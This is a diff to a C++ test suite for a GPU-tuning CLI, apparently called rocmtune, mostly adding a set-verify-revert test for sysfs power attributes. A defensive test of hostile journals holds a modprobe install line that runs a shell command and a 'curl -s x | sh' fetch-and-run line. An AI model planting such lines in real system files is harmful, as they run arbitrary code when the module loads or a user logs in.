@@ -12,6 +12,7 @@
 #include "cli_runner.h"
 #include "client/exit_codes.h"
 #include "journal/journal.h"
+#include "knobs/sysfs_attributes.h"
 
 using ::testing::HasSubstr;
 
@@ -67,9 +68,9 @@ TEST(TransactionCliTest, AHostileJournalCannotMakeRecoveryWriteWhatNoPlanMay) {
   txn.id = "1";
   txn.time = "2026-11-23T00:00:00Z";
   txn.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
-  plan::Op conf{plan::OpKind::kRemoveFile, "modprobe", kConf, "install amdgpu /bin/sh -c 'id >/tmp/pwned'\n",
+  plan::Op conf{plan::OpKind::kRemoveFile, plan::BackendId::kModprobe, kConf, "install amdgpu /bin/sh -c 'id >/tmp/pwned'\n",
                 std::nullopt, {}, "r"};
-  plan::Op profile{plan::OpKind::kRemoveFile, "env", "etc/profile.d/rocmtune.sh", "curl -s x | sh\n", std::nullopt, {}, "r"};
+  plan::Op profile{plan::OpKind::kRemoveFile, plan::BackendId::kEnv, "etc/profile.d/rocmtune.sh", "curl -s x | sh\n", std::nullopt, {}, "r"};
   txn.ops = {conf, profile};
   w.Write(std::string(journal::kJournalDir) + "/" + journal::JournalFileName(1), journal::BeginRecord(txn).dump() + "\n");
 
@@ -169,6 +170,57 @@ TEST(TransactionCliTest, SetHistoryVerifyRevertLeavesTheTreeAsItWas) {
   EXPECT_EQ(after["transactions"][0]["reverted"], true);
   EXPECT_EQ(after["transactions"][1]["verb"], "revert");
   EXPECT_EQ(after["transactions"][1]["reverts"], "1");
+}
+
+// A runtime attribute's `before` is what puts it back in the form the kernel takes (a profile's
+// index, never the table it reads as). On a world the helper's write shows as the kernel would
+// show it, so set -> verify -> revert leaves the attribute reading as it did, byte for byte.
+TEST(TransactionCliTest, SetThenRevertOfASysfsAttributePutsItBack) {
+  struct Case {
+    std::string world, attr, value, device;
+  };
+  const std::vector<Case> cases = {
+      {"rx6900xt", "pp_power_profile_mode", "COMPUTE", "sys/devices/pci0000:00/0000:0c:00.0"},
+      {"rx580", "pp_power_profile_mode", "COMPUTE", "sys/devices/pci0000:00/0000:09:00.0"},  // smu7: " *:" marks
+      {"rx6900xt", "power_dpm_force_performance_level", "high", "sys/devices/pci0000:00/0000:0c:00.0"},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.world + " " + c.attr);
+    WorldCopy w(c.world);
+    auto original = w.Snapshot();
+    const std::string path = c.device + "/" + c.attr;
+    const knobs::SysfsCodec& codec = *knobs::FindSysfsAttribute(c.attr)->codec;
+    auto before = codec.Current(w.Read(path));
+    ASSERT_TRUE(before.has_value());
+    ASSERT_NE(*before, c.value);
+
+    auto set = w.Ctl({"set", fmt::format("sysfs.all.{}={}", c.attr, c.value), "--json"});
+    ASSERT_EQ(set.exit_code, kExitOk) << set.out << set.err;
+    EXPECT_EQ(set.Json()["changed"], true) << set.out;
+    EXPECT_EQ(codec.Current(w.Read(path)), c.value) << "a later read shows the new value:\n" << w.Read(path);
+    auto verify = w.Ctl({"verify", "--json"});
+    EXPECT_EQ(verify.exit_code, kExitOk) << verify.out;
+    // Someone else selects another value: verify compares what rocmtune wrote with what the
+    // attribute reads, through the codec (a table's active row, not its bytes).
+    const std::string ours = w.Read(path);
+    auto other = codec.Encode(ours, c.attr == "pp_power_profile_mode" ? "VIDEO" : "low");
+    ASSERT_TRUE(other.has_value());
+    w.Write(path, codec.Emulate(ours, *other));
+    auto differs = w.Ctl({"verify", "--json"});
+    EXPECT_EQ(differs.exit_code, kExitVerifyDiffers) << differs.out;
+    EXPECT_EQ(Subjects(differs.Json(), "sysfs"), std::vector<std::string>{"/sys/class/drm/card0/device/" + c.attr})
+        << differs.out;
+    w.Write(path, ours);
+
+    auto revert = w.Ctl({"revert", "last", "--json"});
+    ASSERT_EQ(revert.exit_code, kExitOk) << revert.out << revert.err;
+    EXPECT_EQ(revert.Json()["changed"], true) << revert.out;
+    EXPECT_EQ(codec.Current(w.Read(path)), before) << w.Read(path);
+    EXPECT_EQ(testing::ChangedPaths(original, w.Snapshot(), false, {"var/lib/rocmtune"}),
+              (std::vector<std::string>{"var", "var/lib"}))
+        << "the attribute as it was, byte for byte";
+    EXPECT_EQ(w.Ctl({"verify"}).exit_code, kExitOk);
+  }
 }
 
 TEST(TransactionCliTest, ResetRemovesEveryRocmtuneFileAndNoForeignOne) {
